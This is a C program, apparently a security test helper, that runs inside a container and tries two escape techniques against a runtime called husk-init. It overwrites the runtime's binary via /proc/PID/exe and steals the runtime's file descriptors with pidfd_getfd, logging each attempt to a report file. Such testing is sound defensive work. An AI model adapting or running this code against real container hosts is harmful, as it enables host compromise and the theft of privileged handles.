/* thief overwrite REPORT | thief descriptors REPORT: runs in a container and waits for processes that are the runtime
 * still: those whose /proc/PID/exe is husk-init, or a copy of it that is a file of the host.
 *
 *   overwrite     opens that program, and writes to it once nobody executes it any more
 *   descriptors   takes each of the process's descriptors beyond standard error
 *
 * What it did is written to the file REPORT, a line for each. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static FILE* report;

/* Is the process the runtime's, as far as one may know? */
static int is_runtime(int pid) {
  char path[64], target[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t size = readlink(path, target, sizeof target - 1);
  if (size < 0) return 0;
  target[size] = 0;
  return strstr(target, "husk-init") != NULL || strstr(target, "husk.init") != NULL;
}

/* A file that is executed cannot be opened for writing, so it is tried until it is not. */
static void overwrite(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) return;
  fprintf(report, "opened the program of process %d\n", pid);
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  int written = 0;
  const clock_t end = clock() + 2 * CLOCKS_PER_SEC;
  while (!written && clock() < end) {
    int again = open(path, O_WRONLY | O_CLOEXEC);
    if (again < 0) continue;
    written = pwrite(again, "#!taken over\n", 13, 0) == 13;
    close(again);
    if (!written) break; /* it was opened, and refuses to be written: so it will */
  }
  close(file);
  fprintf(report, "%s the program of process %d\n", written ? "overwrote" : "could not overwrite", pid);
}

static void take_descriptors(int pid) {
  int process = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 3; process >= 0 && fd < 16; ++fd) {
    int mine = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
    if (mine < 0) continue;
    char path[64], target[4096] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%d", mine);
    if (readlink(path, target, sizeof target - 1) < 0) target[0] = 0;
    fprintf(report, "took descriptor %d of process %d: %s\n", fd, pid, target);
    close(mine);
  }
  if (process >= 0) close(process);
}

int main(int argc, char** argv) {
  if (argc != 3 || (report = fopen(argv[2], "we")) == NULL) return 2;
  void (*steal)(int) = strcmp(argv[1], "overwrite") == 0 ? overwrite : take_descriptors;
  for (;;) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return 1;
    for (struct dirent* e; (e = readdir(proc)) != NULL;) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid() || !is_runtime(pid)) continue;
      steal(pid);
      fflush(report);
    }
    closedir(proc);
  }
}
